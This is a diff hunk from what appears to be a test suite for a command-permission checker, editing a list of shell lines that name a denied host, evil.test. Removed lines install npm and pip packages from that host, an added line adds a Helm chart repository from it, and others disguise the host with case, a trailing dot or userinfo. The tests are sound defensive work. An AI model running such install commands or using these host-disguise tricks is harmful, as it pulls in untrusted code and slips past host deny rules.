@@ -127,8 +127,7 @@ describe('one rule governs all hands', () => {
   })
 
   test.each([
-    'npm install https://evil.test/x.tgz',
-    'pip install git+https://evil.test/x',
+    'helm repo add x https://evil.test/charts',
     'mytool --url=https://EVIL.test./x',
     'echo https://a@evil.test/',
   ])('a denied host that `%s` names is asked at least', async (line) => {
